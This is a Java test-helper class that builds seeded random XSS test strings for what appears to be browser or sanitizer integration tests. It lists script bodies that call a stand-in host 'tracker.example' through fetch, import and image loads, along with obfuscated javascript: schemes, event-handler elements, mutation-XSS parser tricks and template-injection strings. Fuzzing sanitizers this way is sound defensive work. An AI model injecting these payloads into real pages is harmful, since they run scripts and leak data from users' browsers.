package io.switchboard.it.browser;

import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;

/**
 * Markup that would run a script or call another site if a page took it for its own, made by chance from a seed: elements that act, the
 * ways in which addresses of scripts are hidden, and what parsers understand in two ways (mutation XSS).
 */
final class HostileHtml {
    /** What a script would do, where a browser would see it. */
    private static final List<String> SCRIPTS = List.of(
            "alert(1)",
            "fetch('http://tracker.example/f')",
            "top.location='http://tracker.example/t'",
            "new Image().src='http://tracker.example/i'",
            "document.title='taken'",
            "import('http://tracker.example/m.js')");

    private static final List<String> HANDLERS = List.of(
            "onerror",
            "onload",
            "onfocus",
            "ontoggle",
            "onanimationstart",
            "onpointerenter",
            "onbeforeinput",
            "onbegin");
    private static final List<String> ELEMENTS = List.of(
            "img src=x",
            "svg",
            "input autofocus",
            "details open",
            "video src=x",
            "body",
            "marquee",
            "iframe",
            "math",
            "select autofocus",
            "audio src=x",
            "object data=x",
            "svg><animate attributeName=x dur=1s",
            "custom-element tabindex=1 autofocus",
            "img/src=x",
            "IMG\nSRC=x");
    private static final List<String> SCHEMES = List.of(
            "javascript:",
            "JaVaScRiPt:",
            "java\tscript:",
            "java\nscript:",
            "&#106;avascript:",
            "&#x6A&#x61vascript:",
            " javascript:",
            "\u0001javascript:",
            "vbscript:",
            "data:text/html,<script>",
            "javascript&colon;",
            "view-source:javascript:");
    private static final List<String> CARRIERS = List.of(
            "<a href=\"%s\">x</a>",
            "<form action=\"%s\"><button>x</button></form>",
            "<iframe src=\"%s\"></iframe>",
            "<svg><a xlink:href=\"%s\"><text>x</text></a></svg>",
            "<button formaction=\"%s\">x</button>",
            "<math href=\"%s\">x</math>",
            "<object data=\"%s\"></object>",
            "<embed src=\"%s\">",
            "<meta http-equiv=refresh content=\"0;url=%s\">",
            "<base href=\"%s\">",
            "<img srcset=\"%s 2x\">",
            "<link rel=stylesheet href=\"%s\">");
    private static final List<String> DISGUISES = List.of(
            "%s",
            "<noscript><p title=\"</noscript>%s\">",
            "<svg><style><![CDATA[</style>%s]]>",
            "<math><mtext><table><mglyph><style><!--</style>%s",
            "<form><math><mtext></form><form><mglyph><style></math>%s",
            "<textarea></textarea>%s<textarea>",
            "<!--><b>%s-->",
            "<title></title>%s",
            "<template><p>%s</p></template>",
            "<select><option>%s</select>",
            "<table><tr>%s</table>",
            "<style>@import 'http://tracker.example/s.css';</style>%s",
            "<p style=\"background:url(http://tracker.example/b.png)\">%s</p>",
            "[click](%s)",
            "```\n%s\n```",
            "{{constructor.constructor('alert(1)')()}}${alert(1)}%s");

    private HostileHtml() {}

    /** Makes so many, the same ones for the same seed. */
    static List<String> made(long seed, int count) {
        Random random = new Random(seed);
        return IntStream.range(0, count).mapToObj(number -> one(random)).toList();
    }

    private static String one(Random random) {
        String core = switch (random.nextInt(4)) {
            case 0 -> "<script>" + pick(random, SCRIPTS) + "</script>";
            case 1 -> pick(random, CARRIERS).formatted(pick(random, SCHEMES) + pick(random, SCRIPTS));
            default ->
                "<" + pick(random, ELEMENTS) + " " + pick(random, HANDLERS) + "="
                        + quoted(random, pick(random, SCRIPTS)) + ">";
        };
        String whole = disguised(random, core);
        return random.nextInt(3) == 0 ? disguised(random, whole) : whole;
    }

    private static String disguised(Random random, String core) {
        return pick(random, DISGUISES).replace("%s", core);
    }

    private static String quoted(Random random, String script) {
        return switch (random.nextInt(3)) {
            case 0 -> "\"" + script + "\"";
            case 1 -> "`" + script + "`";
            default -> script;
        };
    }

    private static String pick(Random random, List<String> all) {
        return all.get(random.nextInt(all.size()));
    }
}
